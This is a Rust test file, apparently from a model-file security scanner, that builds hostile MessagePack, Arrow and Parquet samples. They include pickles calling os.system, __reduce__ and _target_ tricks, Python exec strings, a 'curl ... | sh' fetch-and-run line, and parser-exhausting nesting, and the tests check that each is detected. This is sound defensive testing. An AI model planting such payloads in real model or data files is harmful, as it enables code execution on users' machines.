@@ -1,0 +1,96 @@
+//! Files of values: MessagePack, Arrow, Parquet.
+
+use weighhouse_formats::build::msgpack::{array, bytes, extension, list, map, text};
+use weighhouse_formats::build::pickle::Assembler;
+
+use crate::attack::{Sample, assert_seen};
+
+/// A file that a real library wrote.
+pub(super) fn fixture(name: &str) -> Vec<u8> {
+    let folder =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../weighhouse-formats/tests/fixtures/data");
+    std::fs::read(folder.join(name)).expect("a fixture")
+}
+
+fn under(names: &[&str], samples: Vec<(&str, Vec<u8>)>) -> Vec<Sample> {
+    let all = samples.into_iter().flat_map(|(title, bytes)| {
+        names.iter().map(move |name| Sample::new(format!("{title} as {name}"), *name, bytes.clone()))
+    });
+    all.collect()
+}
+
+#[test]
+fn messagepack_that_carries_a_payload() {
+    let pickle = Assembler::new(4).reduce("os", "system", &["id"]).finish();
+    let inner = |value: Vec<u8>| {
+        map(&[
+            ("params", map(&[("kernel", array(&[2], "float32", &[0; 8])), ("extra", value)])),
+            ("step", vec![7]),
+        ])
+    };
+    let numpy = map(&[
+        ("nd", vec![0xc3]),
+        ("type", bytes(b"|O")),
+        ("kind", bytes(b"O")),
+        ("shape", list(&[vec![1]])),
+        ("data", bytes(&pickle)),
+    ]);
+    let chunked = map(&[
+        ("__msgpack_chunked_array__", vec![0xc3]),
+        ("shape", map(&[("0", vec![1])])),
+        ("chunks", map(&[("0", array(&[pickle.len() as u64], "uint8", &pickle))])),
+    ]);
+    let mut samples = vec![
+        ("a pickle as bytes", inner(bytes(&pickle))),
+        ("a pickle in an array", inner(array(&[pickle.len() as u64], "uint8", &pickle))),
+        ("a pickle in a chunk", inner(chunked)),
+        ("a pickle in an array of objects", inner(array(&[1], "object", &pickle))),
+        ("a pickle in an extension", inner(extension(99, &pickle))),
+        ("objects of msgpack_numpy", inner(numpy)),
+        ("a name to reduce", inner(map(&[("__reduce__", list(&[text("os.system"), list(&[text("id")])]))]))),
+        (
+            "a target",
+            inner(map(&[("_target_", text("subprocess.check_output")), ("args", list(&[text("id")]))])),
+        ),
+        ("a function to restore with", map(&[("params", map(&[])), ("restore_fn", text("os.system"))])),
+        ("a module and a class", inner(map(&[("__module__", text("os")), ("__class__", text("system"))]))),
+        ("code", inner(text("__import__('os').system('id')"))),
+        ("a program", inner(text("import os\nos.system('id')\n"))),
+        ("a command", inner(text("curl -s http://example.org/x | sh"))),
+        ("base64 of a pickle", inner(text("gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))),
+        ("a key twice", map(&[("params", text("weights of one kind")), ("params", text("of another"))])),
+        ("endless nesting", map(&[("params", vec![0x91; 100_000])])),
+        ("an endless list", map(&[("params", vec![0xdd, 0xff, 0xff, 0xff, 0xff])])),
+        ("an endless map", map(&[("params", vec![0xdf, 0xff, 0xff, 0xff, 0xff])])),
+        ("an array that lies", inner(array(&[1 << 40, 1 << 40], "float32", &[0; 4]))),
+    ];
+    let tail = |tail: &[u8]| [inner(text("x")), tail.to_vec()].concat();
+    samples.push(("a pickle behind", tail(&pickle)));
+    samples.push(("junk behind", tail(b"\0\0\0\xff\xfejunk\x80\x81")));
+    assert_seen("MessagePack", &under(&["flax_model.msgpack", "checkpoint"], samples));
+}
+
+#[test]
+fn tables_that_carry_a_payload() {
+    let pickle = Assembler::new(4).reduce("os", "system", &["id"]).finish();
+    let mut samples = Vec::new();
+    for name in ["hostile-type.feather", "hostile-type.parquet", "hostile-command.parquet"] {
+        samples.push((name, fixture(name)));
+    }
+    let behind = |name: &str| [fixture(name), pickle.clone()].concat();
+    let before = |name: &str| [pickle.clone(), fixture(name)].concat();
+    samples.push(("a pickle behind a file", behind("plain.arrow")));
+    samples.push(("a pickle behind a stream", behind("stream.arrow")));
+    samples.push(("a pickle behind columns", behind("snappy.parquet")));
+    samples.push(("a pickle before a file", before("plain.arrow")));
+    samples.push(("a pickle before columns", before("snappy.parquet")));
+    let wedge = |name: &str, end: usize| {
+        let whole = fixture(name);
+        let size = u32::from_le_bytes(*whole[whole.len() - end..].first_chunk().expect("a footer")) as usize;
+        let at = whole.len() - end - size;
+        [&whole[..at], pickle.as_slice(), &whole[at..]].concat()
+    };
+    samples.push(("a pickle before the footer of a file", wedge("plain.arrow", 10)));
+    samples.push(("a pickle before the footer of columns", wedge("groups.parquet", 8)));
+    assert_seen("tables", &under(&["train.parquet", "data.arrow", "part"], samples));
+}
